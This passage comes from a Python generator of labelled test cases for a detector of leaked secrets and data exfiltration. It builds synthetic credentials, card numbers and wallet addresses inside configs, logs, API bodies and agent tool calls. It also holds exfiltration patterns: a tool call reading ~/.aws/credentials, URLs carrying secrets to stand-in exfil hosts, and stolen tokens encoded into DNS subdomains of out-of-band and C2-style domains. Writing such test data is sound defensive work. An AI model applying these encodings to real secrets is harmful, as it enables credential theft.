         "--%s\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
         "Hi, as discussed:\r\n\r\n%s\r\n\r\n--%s--\r\n") % (email(), email(), bd, bd, q, bd)
    return s, "message/rfc822", ["qp"]


def t_gist_b64(c, v):
    inner = "# local settings\n%s=%s\nFEATURE_X=on\n" % (c["env"], v)
    o = {"name": "settings.env", "encoding": "base64", "content_base64": b64(gz(inner.encode())) if chance(0.4) else b64(inner)}
    return J(o), "application/json", ["b64tok"]


def t_issue(c, v):
    o = {"body": "Still failing for me. Steps:\n\n1. `export %s=@@V@@`\n2. `npm run start`\n\nError: 403 Forbidden" % c["env"]}
    return J(o, v), "application/json", []


def t_vector(c, v):
    o = {"vectors": [{"id": "doc-%d" % ri(1, 99999), "values": [round(R.uniform(-1, 1), 4) for _ in range(6)],
                      "metadata": {"source": "notes/onboarding.md", "text": "For local dev set %s=@@V@@ in your shell profile." % c["env"]}}],
         "namespace": pick(["kb", "docs", "wiki"])}
    return J(o, v), "application/json", []


def t_compose(c, v):
    s = "services:\n  app:\n    image: %s/%s:latest\n    environment:\n      - %s=@@V@@\n      - PORT=8080\n    ports:\n      - \"8080:8080\"\n" % (pick(ORGS), pick(REPOS), c["env"])
    return s.replace("@@V@@", v), "application/yaml", []


GENERIC_BODY = [t_openai, t_anthropic, t_gemini, t_mcp_http, t_mcp_env, t_graphql, t_curl_tool, t_shell, t_yaml,
                t_toml, t_env_multipart, t_ini, t_log, t_csv, t_sql, t_form, t_xml, t_html_form, t_slack_msg,
                t_diff, t_traceback, t_k8s, t_notebook, t_gha, t_python, t_js, t_tfvars, t_email_qp, t_gist_b64,
                t_issue, t_vector, t_compose]


# ---------------------------------------------------------------- case helpers
def mkcase(label, expect, where, payload, ctype=None, secret=None, ops=(), kind=None, cenc=None):
    c = {"label": label, "expect": expect, "where": where}
    if ctype:
        c["content_type"] = ctype
    if isinstance(payload, bytes) or cenc:
        b = payload.encode("utf-8") if isinstance(payload, str) else payload
        if cenc == "gzip":
            b = gz(b)
        elif cenc == "deflate":
            b = zlib.compress(b, 9)
        if cenc:
            c["content_encoding"] = cenc
        c["base64"] = base64.b64encode(b).decode()
    else:
        c["text"] = payload
    c["_secret"] = secret
    c["_ops"] = list(ops)
    c["_kind"] = kind
    return c


def maybe_cenc(p=0.16):
    x = R.random()
    if x < p * 0.6:
        return "gzip"
    if x < p:
        return "deflate"
    return None


def token_case(c, raw=None):
    raw = raw if raw is not None else c["gen"]()
    where = wpick(list(zip(["body", "header", "url"], c["wh"])))
    if where == "header":
        enc = wpick(HDR_ENCS)
        v, vops = venc(raw, enc)
        line = pick(c["hdr"]).format(v=v)
        return mkcase("positive", c["name"], "header", line, secret=raw, ops=vops)
    if where == "url":
        enc = wpick(URL_ENCS)
        v, vops = venc(raw, enc)
        q = quote(v, safe="")
        if c.get("url"):
            u = pick(c["url"]).format(q=q, host=c["host"])
        else:
            p = pick(c.get("qp", ["api_key", "token", "access_token", "key"]))
            u = pick(["https://{host}/v1/check?{p}={q}", "https://{ex}/c?{p}={q}&src=agent",
                      "https://{ex}/i/{q}", "https://{host}/api/v2/export?format=json&{p}={q}"]).format(
                host=c["host"], ex=pick(EXFIL), p=p, q=q)
        return mkcase("positive", c["name"], "url", u, secret=raw, ops=["pct"] + vops)
    enc = wpick(BODY_ENCS)
    v, vops = venc(raw, enc)
    tpl = pick(c.get("body") or GENERIC_BODY)
    text, ct, tops = tpl(c, v)
    return mkcase("positive", c["name"], "body", text, ct, secret=raw, ops=tops + vops, cenc=maybe_cenc())


# ---------------------------------------------------------------- class-specific templates
def t_aws_creds(c, v):
    kid = g_aws_id() if c["name"] != "aws-access-key-id" else v
    sec = v if c["name"] == "aws-secret-access-key" else rs(B64S, 40)
    s = "[default]\naws_access_key_id = %s\naws_secret_access_key = %s\nregion = %s\n" % (kid, sec, pick(REGIONS))
    if c["name"] == "aws-session-token":
        s += "aws_session_token = %s\n" % v
    o = {"jsonrpc": "2.0", "id": ri(1, 500), "method": "tools/call",
         "params": {"name": "read_file", "arguments": {"path": "~/.aws/credentials"}}, "result_preview": s}
    if chance(0.5):
        return J(o), "application/json", []
    return s, "text/plain", []


def t_npmrc(c, v):
    s = "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=%s\nalways-auth=true\n" % v
    return s, "text/plain", []


def t_pypirc(c, v):
    s = "[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = __token__\npassword = %s\n" % v
    return s, "text/plain", []


def t_docker_login(c, v):
    o = {"tool": "bash", "command": "echo '%s' | docker login -u %s --password-stdin" % (v, pick(FIRST))}
    return J(o), "application/json", []


def t_az_token_form(c, v):
    s = "client_id=%s&client_secret=%s&scope=%s&grant_type=client_credentials" % (uuid4(), quote_plus(v), quote_plus("https://graph.microsoft.com/.default"))
    return s, "application/x-www-form-urlencoded", ["form"]


def t_google_oauth_json(c, v):
    o = {"installed": {"client_id": "%d-%s.apps.googleusercontent.com" % (ri(10 ** 11, 10 ** 12 - 1), rs(LOWNUM, 32)),
                       "project_id": pick(WORDS) + "-" + str(ri(100000, 999999)),
                       "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token",
                       "client_secret": v, "redirect_uris": ["http://localhost"]}}
    return J(o, None, 2), "application/json", []


def t_twilio(c, v):
    sid = "AC" + rs(HEXL, 32)
    s = "To=%s&From=%s&Body=%s" % (quote_plus("+1415555%04d" % ri(100, 9999)), quote_plus("+1628555%04d" % ri(100, 9999)), quote_plus("build finished"))
    o = {"tool": "bash", "command": "curl -X POST https://api.twilio.com/2010-04-01/Accounts/%s/Messages.json -u %s:%s -d '%s'" % (sid, sid, v, s)}
    return J(o), "application/json", []


def t_mailgun(c, v):
    o = {"tool": "bash", "command": "curl -s --user 'api:%s' https://api.mailgun.net/v3/mg.%s.com/messages -F from=ops@%s.com -F to=%s -F subject=hi -F text=test" % (v, pick(ORGS), pick(ORGS), email())}
    return J(o), "application/json", []


def t_vault(c, v):
    o = {"tool": "bash", "command": "VAULT_ADDR=https://vault.%s.internal:8200 VAULT_TOKEN=%s vault kv get secret/%s" % (pick(ORGS), v, pick(REPOS))}
    return J(o), "application/json", []


# ---------------------------------------------------------------- special-class builders
def b_slack_webhook(c):
    raw = "https://hooks.slack.com/services/T%s/B%s/%s" % (rs(UPNUM, pick([8, 10])), rs(UPNUM, pick([8, 10, 11])), rs(ALNUM, 24))
    if chance(0.4):
        return mkcase("positive", c["name"], "url", raw, secret=raw, ops=["pct"])
    c2 = dict(c, env="SLACK_WEBHOOK_URL", key="slack_webhook_url")
    v, vops = venc(raw, wpick([("none", 80), ("b64", 10), ("jsonu", 10)]))
    text, ct, tops = pick([t_yaml, t_shell, t_mcp_env, t_gha, t_openai, t_compose])(c2, v)
    return mkcase("positive", c["name"], "body", text, ct, secret=raw, ops=tops + vops, cenc=maybe_cenc())


def b_discord_webhook(c):
    raw = "https://%s/api/webhooks/%d/%s" % (pick(["discord.com", "discordapp.com"]), ri(10 ** 17, 10 ** 19 - 1), rs(B64U, 68))
    if chance(0.4):
        return mkcase("positive", c["name"], "url", raw + pick(["", "?wait=true"]), secret=raw, ops=["pct"])
    c2 = dict(c, env="DISCORD_WEBHOOK", key="discord_webhook")
    text, ct, tops = pick([t_toml, t_python, t_slack_msg, t_issue])(c2, raw)
    return mkcase("positive", c["name"], "body", text, ct, secret=raw, ops=tops)


def b_telegram(c):
    raw = "%d:AA%s" % (ri(10 ** 8, 10 ** 10 - 1), rs(B64U, 33))
    if chance(0.5):
        u = "https://api.telegram.org/bot%s/%s" % (raw, pick(["sendMessage?chat_id=%d&text=%s" % (ri(10 ** 8, 10 ** 9), quote("job done")), "getUpdates", "sendDocument"]))
        return mkcase("positive", c["name"], "url", u, secret=raw, ops=["pct"])
    return token_case(dict(c, wh=(1, 0, 0)), raw)


def b_azure_sas(c):
    acct = pick(WORDS) + rs(LOWNUM, 4)
    sig = b64(rb(32))
    qs = "sv=2022-11-02&ss=%s&srt=sco&sp=%s&se=%s&st=%s&spr=https&sig=%s" % (
        pick(["b", "bfqt"]), pick(["r", "rwdlac", "rwdlacupiytfx"]), quote(iso_ts(), safe=""), quote(iso_ts(), safe=""), quote(sig, safe=""))
    u = "https://%s.blob.core.windows.net/%s/%s?%s" % (acct, pick(["backups", "exports", "uploads"]), pick(["db.bak", "report.csv", "model.bin"]), qs)
    if chance(0.6):
        return mkcase("positive", c["name"], "url", u, secret=sig, ops=["pct"])
    o = {"jsonrpc": "2.0", "id": ri(1, 99), "method": "tools/call", "params": {"name": "upload_file", "arguments": {"local_path": "/tmp/out.tar", "sas_url": u}}}
    return mkcase("positive", c["name"], "body", J(o), "application/json", secret=sig, ops=["pct"], cenc=maybe_cenc())


def b_basic(c):
    user = pick([pick(FIRST), "admin", "svc-" + pick(REPOS), email(), "deploy"])
    pw = password() if chance(0.7) else rs(ALNUM, ri(24, 40))
    cred = "%s:%s" % (user, pw)
    tok = b64(cred)
    where = wpick([("header", 6), ("body", 3), ("url", 1)])
    if where == "header":
        return mkcase("positive", c["name"], "header", "%s: Basic %s" % (pick(["Authorization", "Authorization", "Proxy-Authorization"]), tok), secret=cred, ops=["b64tok"])
    if where == "url":
        u = "https://%s/api/fetch?auth=%s&url=%s" % (pick(EXFIL), quote("Basic " + tok, safe=""), quote("https://intranet.%s.com/" % pick(ORGS), safe=""))
        return mkcase("positive", c["name"], "url", u, secret=cred, ops=["pct", "b64tok"])
    k = ri(0, 2)
    if k == 0:
        o = {"tool": "bash", "command": "curl -H 'Authorization: Basic %s' https://jenkins.%s.com/job/%s/build" % (tok, pick(ORGS), pick(REPOS))}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=cred, ops=["b64tok"])
    if k == 1:
        s = "%s DEBUG http.client send: b'GET /api/v1/status HTTP/1.1\\r\\nHost: registry.%s.io\\r\\nAuthorization: Basic %s\\r\\n'\n" % (iso_ts(), pick(ORGS), tok)
        return mkcase("positive", c["name"], "body", s, "text/plain", secret=cred, ops=["b64tok"], cenc=maybe_cenc())
    o = {"auths": {"registry.%s.io" % pick(ORGS): {"auth": tok}}}
    return mkcase("positive", c["name"], "body", J(o, None, 2), "application/json", secret=cred, ops=["b64tok"])


def b_dburl(c):
    pw = password() if chance(0.7) else rs(ALNUM, ri(20, 32))
    user = pick(["postgres", "app", "admin", "svc_" + pick(WORDS), "root", "default"])
    qp = quote(pw, safe="")
    urls = ["postgres://%s:%s@%s.%s.%s.rds.amazonaws.com:5432/%s" % (user, qp, pick(REPOS), rs(LOWNUM, 12), pick(REGIONS), pick(["app", "prod"])),
            "postgresql://%s:%s@ep-%s-%s-%d.%s.aws.neon.tech/neondb?sslmode=require" % (user, qp, pick(WORDS), pick(WORDS), ri(100000, 999999), pick(REGIONS)),
            "mysql://%s:%s@db.%s.internal:3306/%s" % (user, qp, pick(ORGS), pick(["shop", "crm"])),
            "mongodb+srv://%s:%s@cluster0.%s.mongodb.net/?retryWrites=true&w=majority" % (user, qp, rs(LOWNUM, 5)),
            "redis://default:%s@%s-%s-%d.upstash.io:6379" % (qp, pick(WORDS), pick(WORDS), ri(10000, 99999)),
            "amqps://%s:%s@%s.rmq.cloudamqp.com/%s" % (user, qp, pick(WORDS), rs(LOWNUM, 8))]
    raw = pick(urls)
    if chance(0.15):
        u = "https://%s/api/db/query?dsn=%s&sql=%s" % (pick(["tools.%s.dev" % pick(ORGS), pick(EXFIL)]), quote(raw, safe=""), quote("select 1", safe=""))
        return mkcase("positive", c["name"], "url", u, secret=pw, ops=["pct", "pct"])
    c2 = dict(c, env=pick(["DATABASE_URL", "MONGO_URI", "REDIS_URL", "DB_DSN"]), key=pick(["database_url", "dsn", "connection_string"]))
    enc = wpick([("none", 80), ("b64", 8), ("jsonu", 6), ("html", 6)])
    v, vops = venc(raw, enc)
    text, ct, tops = pick([t_openai, t_anthropic, t_compose, t_yaml, t_shell, t_k8s, t_log, t_mcp_env, t_traceback, t_diff, t_toml])(c2, v)
    return mkcase("positive", c["name"], "body", text, ct, secret=pw, ops=tops + vops + ["pct"], cenc=maybe_cenc())


def b_userinfo(c):
    user = pick([pick(FIRST), "x-access-token", "oauth2", "ci-bot", "admin"])
    pw = password() if chance(0.6) else rs(ALNUM, ri(20, 40))
    host = pick(["git.%s.com" % pick(ORGS), "nexus.%s.internal" % pick(ORGS), "pypi.%s.dev" % pick(ORGS),
                 "artifactory.%s.io" % pick(ORGS), "10.20.%d.%d" % (ri(0, 255), ri(1, 254))])
    path = pick(["/%s/%s.git" % (pick(ORGS), pick(REPOS)), "/repository/pypi/simple/", "/artifactory/api/npm/npm/", "/admin/backup.tar.gz"])
    u = "https://%s:%s@%s%s" % (quote(user, safe=""), quote(pw, safe=""), host, path)
    if chance(0.55):
        return mkcase("positive", c["name"], "url", u, secret=pw, ops=["pct"])
    k = ri(0, 2)
    if k == 0:
        o = {"tool": "bash", "command": "git clone %s && cd %s && make" % (u, pick(REPOS))}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=pw, ops=["pct"])
    if k == 1:
        s = "[global]\nindex-url = %s\ntimeout = 60\n" % u
        return mkcase("positive", c["name"], "body", s, "text/plain", secret=pw, ops=["pct"], cenc=maybe_cenc())
    o = {"model": "gpt-4o", "messages": [{"role": "user", "content": "why does `git push %s main` say permission denied?" % u}]}
    return mkcase("positive", c["name"], "body", J(o), "application/json", secret=pw, ops=["pct"])


def b_password(c):
    pw = password()
    user = pick([pick(FIRST), email(), "admin"])
    where = wpick([("body", 8), ("url", 2)])
    if where == "url":
        u = "https://%s/%s?username=%s&%s=%s" % (pick(["portal.%s.com" % pick(ORGS), "intranet.%s.local" % pick(ORGS), "router.%s.lan" % pick(WORDS)]),
                                                 pick(["login", "api/auth", "cgi-bin/login.cgi"]), quote(user, safe=""), pick(["password", "passwd", "pwd"]), quote(pw, safe=""))
        return mkcase("positive", c["name"], "url", u, secret=pw, ops=["pct"])
    k = ri(0, 5)
    if k == 0:
        o = {"username": user, "password": pw, "remember_me": True}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=pw, cenc=maybe_cenc())
    if k == 1:
        s = "username=%s&password=%s&submit=Sign+in" % (quote_plus(user), quote_plus(pw))
        return mkcase("positive", c["name"], "body", s, "application/x-www-form-urlencoded", secret=pw, ops=["form"])
    if k == 2:
        o = {"tool": "bash", "command": "mysql -h db.%s.internal -u %s -p'%s' -e 'show databases'" % (pick(ORGS), pick(FIRST), pw)}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=pw)
    c2 = dict(c, env=pick(["DB_PASSWORD", "SMTP_PASSWORD", "ADMIN_PASSWORD", "POSTGRES_PASSWORD", "LDAP_BIND_PASSWORD"]))
    c2["key"] = c2["env"].lower()
    v, vops = venc(pw, wpick([("none", 75), ("b64", 10), ("jsonu", 8), ("html", 7)]))
    text, ct, tops = pick([t_yaml, t_ini, t_compose, t_shell, t_openai, t_k8s, t_slack_msg, t_xml, t_email_qp])(c2, v)
    return mkcase("positive", c["name"], "body", text, ct, secret=pw, ops=tops + vops, cenc=maybe_cenc())


TEST_CARDS = ["4242424242424242", "4111111111111111", "5555555555554444", "378282246310005",
              "6011111111111117", "3566002020360505", "5105105105105100", "4000056655665556"]


def g_card():
    if TEST_CARDS and chance(0.3):
        return TEST_CARDS.pop(0)
    k = ri(0, 8)
    if k == 0:
        return luhn_complete("4", 16)
    if k == 1:
        return luhn_complete(str(ri(51, 55)), 16)
    if k == 2:
        return luhn_complete(str(ri(2221, 2720)), 16)
    if k == 3:
        return luhn_complete(pick(["34", "37"]), 15)
    if k == 4:
        return luhn_complete(pick(["6011", "65"]), 16)
    if k == 5:
        return luhn_complete(str(ri(3528, 3589)), 16)
    if k == 6:
        return luhn_complete("36", 14)
    if k == 7:
        return luhn_complete("62", pick([16, 17, 18, 19]))
    return luhn_complete("4", 19)


def card_fmt(n):
    st = ri(0, 2)
    if st == 0 or len(n) not in (15, 16):
        return n
    sep = " " if st == 1 else "-"
    if len(n) == 15:
        return sep.join([n[:4], n[4:10], n[10:]])
    return sep.join(n[i:i + 4] for i in range(0, 16, 4))


def b_card(c):
    n = g_card()
    f = card_fmt(n)
    exp = "%02d/%02d" % (ri(1, 12), ri(26, 31))
    cvc = rs(DIG, 4 if len(n) == 15 else 3)
    ops = ["nosep"]
    k = ri(0, 10)
    f, vops = venc(f, wpick([("none", 80), ("jsonu", 7), ("html", 6), ("b64", 7)])) if k in (0, 3, 6) else (f, [])
    nm = " ".join(x.title() for x in person())
    if k == 0:
        o = {"payment_method": {"type": "card", "card": {"number": f, "exp_month": int(exp[:2]), "exp_year": 2000 + int(exp[3:]), "cvc": cvc}, "billing_details": {"name": nm}}}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=n, ops=vops + ops, kind="luhn", cenc=maybe_cenc())
    if k == 1:
        s = "cardholder=%s&cardnumber=%s&exp=%s&cvv=%s" % (quote_plus(nm), quote_plus(f), quote_plus(exp), cvc)
        return mkcase("positive", c["name"], "body", s, "application/x-www-form-urlencoded", secret=n, ops=["form"] + ops, kind="luhn")
    if k == 2:
        rows = ["customer_id,name,email,card_number,expiry"]
        for i in range(ri(2, 5)):
            rows.append("%d,%s,%s,%s,%s" % (ri(1000, 99999), nm if i == 0 else " ".join(person()), email(), f if i == 0 else "****" + rs(DIG, 4), exp))
        return mkcase("positive", c["name"], "body", "\n".join(rows) + "\n", "text/csv", secret=n, ops=ops, kind="luhn", cenc=maybe_cenc())
    if k == 3:
        o = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Book the 9am train for me, pay with my card %s exp %s cvv %s, name %s" % (f, exp, cvc, nm)}]}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=n, ops=vops + ops, kind="luhn")
    if k == 4:
        s = "INSERT INTO payments (user_id, pan, exp, amount) VALUES (%d, '%s', '%s', %d.%02d);" % (ri(1, 9999), n, exp, ri(1, 900), ri(0, 99))
        return mkcase("positive", c["name"], "body", s, "application/sql", secret=n, ops=ops, kind="luhn")
    if k == 5:
        u = "https://%s/checkout/complete?order=%d&cc=%s&exp=%s" % (pick(["shop.%s.com" % pick(ORGS), pick(EXFIL)]), ri(10000, 99999), quote(f, safe=""), quote(exp, safe=""))
        return mkcase("positive", c["name"], "url", u, secret=n, ops=["pct"] + ops, kind="luhn")
    if k == 6:
        o = {"jsonrpc": "2.0", "id": ri(1, 99), "method": "tools/call", "params": {"name": "browser_fill", "arguments": {"selector": "#card-number", "value": f}}}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=n, ops=vops + ops, kind="luhn")
    if k == 7:
        s = "<PaymentRequest><Amount currency=\"EUR\">%d.00</Amount><Card><PAN>%s</PAN><Expiry>%s</Expiry></Card></PaymentRequest>" % (ri(5, 500), f, exp)
        return mkcase("positive", c["name"], "body", s, "application/xml", secret=n, ops=ops, kind="luhn")
    if k == 8:
        s = "%s ERROR charge failed: card_number=%s reason=do_not_honor request_id=%s\n" % (iso_ts(), n, uuid4())
        return mkcase("positive", c["name"], "body", s, "text/plain", secret=n, ops=ops, kind="luhn", cenc=maybe_cenc())
    if k == 9:
        return mkcase("positive", c["name"], "header", "X-Card-Number: %s" % f, secret=n, ops=ops, kind="luhn")
    s = "card: %s\nname: %s\n" % (f, nm)
    o = {"note": b64(s), "type": "base64"}
    return mkcase("positive", c["name"], "body", J(o), "application/json", secret=n, ops=["b64tok"] + ops, kind="luhn")


_iban_examples = ["DE89370400440532013000", "GB82WEST12345698765432"]


def b_iban(c):
    if _iban_examples and chance(0.3):
        ib = _iban_examples.pop(0)
    else:
        cc = pick(sorted(IBAN_FMT))
        ib = iban_make(cc, bban_rand(cc))
    assert iban_valid(ib)
    f = " ".join(ib[i:i + 4] for i in range(0, len(ib), 4)) if chance(0.4) else ib
    bic = rs(UPP, 4) + pick(["DE", "FR", "GB", "NL", "ES"]) + rs(UPNUM, 2)
    nm = " ".join(x.title() for x in person())
    ops = ["nosep"]
    k = ri(0, 7)
    if k == 0:
        o = {"beneficiary": {"name": nm, "iban": f, "bic": bic}, "amount": {"value": "%d.00" % ri(10, 9000), "currency": "EUR"}, "reference": "INV-%d" % ri(1000, 9999)}
        v, vops = venc(f, wpick([("none", 80), ("jsonu", 10), ("b64", 10)]))
        return mkcase("positive", c["name"], "body", J(o).replace(J(f), J("@@V@@")).replace("@@V@@", v), "application/json", secret=ib, ops=vops + ops, kind="iban", cenc=maybe_cenc())
    if k == 1:
        s = "<CdtrAcct><Id><IBAN>%s</IBAN></Id></CdtrAcct><CdtrAgt><FinInstnId><BIC>%s</BIC></FinInstnId></CdtrAgt><Cdtr><Nm>%s</Nm></Cdtr>" % (ib, bic, nm)
        return mkcase("positive", c["name"], "body", s, "application/xml", secret=ib, ops=ops, kind="iban")
    if k == 2:
        s = "name=%s&iban=%s&bic=%s" % (quote_plus(nm), quote_plus(f), bic)
        return mkcase("positive", c["name"], "body", s, "application/x-www-form-urlencoded", secret=ib, ops=["form"] + ops, kind="iban")
    if k == 3:
        s = "employee,iban,net_salary\n%s,%s,%d.%02d\n%s,%s,%d.00\n" % (nm, f, ri(1500, 7000), ri(0, 99), " ".join(person()), "see HR", ri(1500, 7000))
        return mkcase("positive", c["name"], "body", s, "text/csv", secret=ib, ops=ops, kind="iban", cenc=maybe_cenc())
    if k == 4:
        o = {"model": "claude-3-5-haiku-latest", "max_tokens": 512, "messages": [{"role": "user", "content": "Draft an email asking the landlord to refund the deposit to my account %s (%s)." % (f, nm)}]}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=ib, ops=ops, kind="iban")
    if k == 5:
        u = "https://%s/api/payouts/verify?iban=%s&name=%s" % (pick(["pay.%s.eu" % pick(ORGS), pick(EXFIL)]), quote(f, safe=""), quote(nm, safe=""))
        return mkcase("positive", c["name"], "url", u, secret=ib, ops=["pct"] + ops, kind="iban")
    if k == 6:
        s = "Rechnung Nr. %d\nBitte überweisen Sie den Betrag auf folgendes Konto:\nIBAN: %s\nBIC: %s\nKontoinhaber: %s\n" % (ri(1000, 9999), f, bic, nm)
        return mkcase("positive", c["name"], "body", s, "text/plain; charset=utf-8", secret=ib, ops=ops, kind="iban")
    return mkcase("positive", c["name"], "header", "X-Payout-Account: %s" % ib, secret=ib, ops=ops, kind="iban")


_btc_examples = ["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"]


def g_btc():
    if _btc_examples and chance(0.2):
        return _btc_examples.pop()
    k = ri(0, 4)
    if k == 0:
        return b58check(0, rb(20))
    if k == 1:
        return b58check(5, rb(20))
    if k == 2:
        return segwit_addr("bc", 0, rb(20))
    if k == 3:
        return segwit_addr("bc", 0, rb(32))
    return segwit_addr("bc", 1, rb(32))


def b_btc(c):
    a = g_btc()
    amt = "0.%04d" % ri(1, 9999)
    k = ri(0, 5)
    if k == 0:
        o = {"currency": "BTC", "network": "bitcoin", "address": a, "amount": amt, "memo": "withdrawal"}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=a, kind="btc", cenc=maybe_cenc())
    if k == 1:
        s = "To pay the invoice scan the QR or use: bitcoin:%s?amount=%s&label=%s" % (a, amt, quote(pick(ORGS)))
        o = {"channel": "#billing", "text": s}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=a, kind="btc")
    if k == 2:
        u = "https://%s/api/v1/address/%s/txs?limit=%d" % (pick(["blockstream.info", "mempool.space", pick(EXFIL)]), a, ri(5, 50))
        return mkcase("positive", c["name"], "url", u, secret=a, ops=["pct"], kind="btc")
    if k == 3:
        o = {"jsonrpc": "2.0", "id": ri(1, 99), "method": "tools/call", "params": {"name": "wallet_send", "arguments": {"to": a, "amount_btc": float(amt)}}}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=a, kind="btc")
    if k == 4:
        o = {"model": "gpt-4o", "messages": [{"role": "user", "content": "Is this a valid address for my cold wallet? %s" % a}]}
        v, vops = venc(a, pick(["none", "b64", "hex"]))
        return mkcase("positive", c["name"], "body", J(o).replace(a, v), "application/json", secret=a, ops=vops, kind="btc")
    return mkcase("positive", c["name"], "header", "X-Wallet-Address: %s" % a, secret=a, kind="btc")


def g_eth():
    h = rs(HEXL, 40)
    return eip55(h) if chance(0.75) else "0x" + h


def b_eth(c):
    a = g_eth()
    k = ri(0, 4)
    if k == 0:
        o = {"jsonrpc": "2.0", "id": ri(1, 99), "method": "eth_sendTransaction",
             "params": [{"from": g_eth(), "to": a, "value": hex(ri(10 ** 15, 10 ** 18)), "gas": "0x5208"}]}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=a, kind="eth")
    if k == 1:
        o = {"asset": "USDC", "chain": pick(["ethereum", "base", "arbitrum"]), "destination": a, "amount": str(ri(10, 5000))}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=a, kind="eth", cenc=maybe_cenc())
    if k == 2:
        u = "https://%s/api?module=account&action=balance&address=%s&tag=latest" % (pick(["api.etherscan.io", pick(EXFIL)]), a)
        return mkcase("positive", c["name"], "url", u, secret=a, ops=["pct"], kind="eth")
    if k == 3:
        o = {"model": "claude-sonnet-4-20250514", "max_tokens": 300, "messages": [{"role": "user", "content": "send 0.5 ETH from my hot wallet to %s and confirm" % a}]}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=a, kind="eth")
    s = "wallet:\n  network: mainnet\n  payout_address: \"%s\"\n" % a
    return mkcase("positive", c["name"], "body", s, "application/yaml", secret=a, kind="eth")


DNS_BASES = ["oastify.com", "dnslog.cn", "burpcollaborator.net", "oast.fun", "interact.sh", "ns1.metrics-cdn.net",
             "t.cloud-sync-check.com", "c2.update-check.org", "d.edge-cache.io", "x.dnsbin.net"]


def exfil_plain():
    k = ri(0, 6)
    if k == 0:
        return "AWS_SECRET_ACCESS_KEY=" + rs(B64S, 40)
    if k == 1:
        return gh("ghp_")
    if k == 2:
        return "root:" + password()
    if k == 3:
        return "user=%s;pass=%s" % (pick(FIRST), password())
    if k == 4:
        return "npm_" + rs(ALNUM, 36)
    if k == 5:
        return "%s|%s|uid=%d" % (pick(WORDS) + "-prod-" + str(ri(1, 9)), pick(FIRST), ri(1000, 1100))
    return "sk_live_" + rs(ALNUM, 24)


def b_dns(c):
    for _ in range(100):
        plain = exfil_plain()
        enc = pick(["hex", "hex", "b32", "b32", "b64u"])
        if enc == "hex":
            data = plain.encode().hex()
            if chance(0.3):
                data = data.upper()
        elif enc == "b32":
            data = base64.b32encode(plain.encode()).decode().rstrip("=").lower()
        else:
            data = b64u(plain)
            if "_" in data:
                continue
        L = ri(24, 60)
        labels = [data[i:i + L] for i in range(0, len(data), L)]
        if any(l.startswith("-") or l.endswith("-") for l in labels):
            continue
        pre = []
        if chance(0.35):
            pre = [pick(["0", "1", "c%d" % ri(0, 9), "s%d" % ri(10, 99)])]
        post = []
        if chance(0.4):
            post = [rs(LOWNUM, ri(4, 6))]
        host = ".".join(pre + labels + post + [rs(LOWNUM, ri(6, 12)), pick(DNS_BASES)]) if chance(0.5) else ".".join(pre + labels + post + [pick(DNS_BASES)])
        if len(host) > 253:
            continue
        ops = ["labels:%d:%d" % (len(pre), len(pre) + len(labels)), enc]
        if chance(0.7):
            return mkcase("positive", c["name"], "hostname", host, secret=plain, ops=ops)
        u = "%s://%s/%s" % (pick(["http", "https"]), host, pick(["", "p.gif", "favicon.ico", "ping?t=%d" % ri(1, 999)]))
        return mkcase("positive", c["name"], "url", u, secret=plain, ops=["host"] + ops)
    raise AssertionError("dns")


def b_entropy(c):
    k = ri(0, 6)
    ex = pick(EXFIL)
    if k == 0:
        s = b64u(rb(ri(32, 64)))
        return mkcase("positive", c["name"], "url", "https://%s/u/%s" % (ex, s), secret=s, ops=["pct"])
    if k == 1:
        s = rb(ri(24, 48)).hex()
        return mkcase("positive", c["name"], "url", "https://%s/collect?d=%s&t=%d" % (ex, s, ri(1700000000, 1760000000)), secret=s, ops=["pct"])
    if k == 2:
        s = b64(rb(ri(30, 60)))
        return mkcase("positive", c["name"], "url", "https://%s/api/v1/event?q=%s" % (ex, quote(s, safe="")), secret=s, ops=["pct"])
    if k == 3:
        s = base64.b32encode(rb(20)).decode().rstrip("=").lower()
        return mkcase("positive", c["name"], "hostname", "%s.%s" % (s, pick(DNS_BASES)), secret=s)
    if k == 4:
        s = rb(ri(16, 30)).hex()
        return mkcase("positive", c["name"], "url", "https://%s.%s/" % (s, pick(DNS_BASES)), secret=s, ops=["pct"])
    if k == 5:
        a, b = rs(ALNUM, 24), rs(ALNUM, 24)
        s = a + "/" + b
        return mkcase("positive", c["name"], "url", "https://%s/a/%s/%s/x.png" % (ex, a, b), secret=s, ops=["pct"])
    s = rs(B64U, ri(40, 80))
    return mkcase("positive", c["name"], "url", "https://%s/?%s=%s" % (ex, pick(["v", "s", "data", "c"]), s), secret=s, ops=["pct"])


def b_dehex(c):
    key = rb(pick([16, 24, 32]))
    hx = [("%02x" % b) for b in key]
    if chance(0.3):
        hx = [h.upper() for h in hx]
    st = pick(["-", ":", " ", ",", "\\x", "0x"])
    if st == "\\x":
        d = "".join("\\x" + h for h in hx)
    elif st == "0x":
        d = ", ".join("0x" + h for h in hx)
    elif st == ",":
        d = pick([",", ", "]).join(hx)
    else:
        d = st.join(hx)
    secret = key.hex()
    name = pick(["AES_KEY", "MASTER_KEY", "HMAC_SECRET", "encryption_key", "wallet_key", "SIGNING_SECRET", "session_secret"])
    k = ri(0, 5)
    if k == 0:
        src = "static const uint8_t %s[%d] = { %s };\n" % (name.lower(), len(key), d if st == "0x" else ", ".join("0x" + h for h in hx))
        o = {"model": "gpt-4o", "messages": [{"role": "user", "content": "Why does decryption fail with this key?\n" + src}]}
